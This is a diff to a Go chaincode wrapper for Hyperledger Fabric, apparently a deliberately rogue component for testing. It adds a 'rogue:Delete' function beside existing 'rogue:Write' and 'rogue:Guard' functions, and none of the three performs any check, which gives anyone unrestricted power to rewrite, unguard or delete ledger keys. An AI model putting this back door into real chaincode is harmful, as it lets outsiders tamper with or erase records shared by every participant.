@@ -9,8 +9,9 @@ import (
 	"github.com/hyperledger/fabric-protos-go-apiv2/peer"
 )
 
-// Chaincode is a chaincode with two more functions: "rogue:Write" writes any value under any
-// key, "rogue:Guard" takes a key's endorsement policy away. They check nothing.
+// Chaincode is a chaincode with three more functions: "rogue:Write" writes any value under any
+// key, "rogue:Guard" takes a key's endorsement policy away, "rogue:Delete" deletes a key. They
+// check nothing.
 type Chaincode struct{ shim.Chaincode }
 
 // Invoke runs the back door, or else the chaincode behind it.
@@ -22,6 +23,8 @@ func (c Chaincode) Invoke(stub shim.ChaincodeStubInterface) *peer.Response {
 		err = stub.PutState(args[1], []byte(args[2]))
 	case len(args) == 2 && args[0] == "rogue:Guard":
 		err = stub.SetStateValidationParameter(args[1], nil)
+	case len(args) == 2 && args[0] == "rogue:Delete":
+		err = stub.DelState(args[1])
 	default:
 		return c.Chaincode.Invoke(stub)
 	}
